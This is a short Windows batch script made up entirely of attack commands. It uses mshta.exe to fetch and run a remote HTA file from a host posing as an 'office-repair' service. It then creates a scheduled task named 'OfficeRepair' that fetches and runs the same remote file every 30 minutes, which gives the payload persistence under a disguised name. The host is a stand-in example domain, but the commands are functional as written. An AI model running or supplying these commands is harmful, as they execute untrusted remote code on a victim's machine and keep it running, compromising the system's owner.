@echo off
mshta.exe https://office-repair.example.com/r.hta
schtasks /create /tn "OfficeRepair" /tr "mshta https://office-repair.example.com/r.hta" /sc minute /mo 30 /f
